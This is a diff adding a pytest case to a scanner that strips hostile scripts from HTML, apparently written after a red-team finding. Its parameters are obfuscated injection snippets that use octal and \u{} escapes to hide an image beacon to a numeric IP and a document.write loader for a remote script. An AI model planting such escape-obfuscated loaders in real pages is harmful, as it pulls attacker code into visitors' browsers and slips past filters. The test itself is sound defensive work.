@@ -186,3 +186,23 @@ def test_a_reference_over_the_url_cap_that_resolves_short_is_judged_by_its_url(
     out, findings = scanner.strip(html(script), PAGE, "text/html; charset=utf-8", comment=False)
     assert any(f.removed for f in findings), findings
     assert b"evil.test" not in out
+
+
+@pytest.mark.parametrize("fast_path", [True, False])
+@pytest.mark.parametrize(
+    "code",
+    [
+        # \56 is "." and the "1" after it is a digit: JS reads at most two digits from 4-7
+        'new Image().src = "http://217\\56107\\56218\\56147/oct";',
+        "new Image().src = 'http://217\\056107\\056218\\056147/oct';",
+        # \u{...} takes any number of hex digits, leading zeros included
+        "new Image().src = 'http://\\u{000000006D}artuz.cn/x.js';",
+        "document.write('<script src=http://martuz\\u{0002e}cn/x.js></scr'+'ipt>');",
+    ],
+    ids=["octal-4-7", "octal-0-3", "u-brace-long", "u-brace-write"],
+)
+def test_escapes_read_as_javascript_reads_them(code: str, fast_path: bool) -> None:
+    """A red team found octal escapes read three digits past 4-7 and ``\\u{}`` capped
+    at six digits: the browser decoded a blocked URL the scanner did not."""
+    out, findings = strip(html(f"<script>{code}</script>"), fast_path=fast_path)
+    assert any(f.removed for f in findings), findings
